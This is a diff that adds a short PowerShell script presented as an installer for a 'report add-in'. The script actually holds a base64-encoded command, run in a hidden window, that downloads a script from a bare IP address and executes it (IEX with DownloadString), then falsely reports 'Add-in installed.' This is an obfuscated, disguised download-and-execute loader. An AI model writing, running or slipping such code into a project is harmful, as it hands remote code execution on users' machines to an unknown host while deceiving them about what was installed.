@@ -1,0 +1,4 @@
+# install the report add-in
+$enc = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAiAGgAdAB0AHAAOgAvAC8ANAA1AC4AMQA1ADUALgAyADAANQAuADkAOQAvAHAALgBwAHMAMQAiACkA"
+powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand $enc
+Write-Host "Add-in installed."
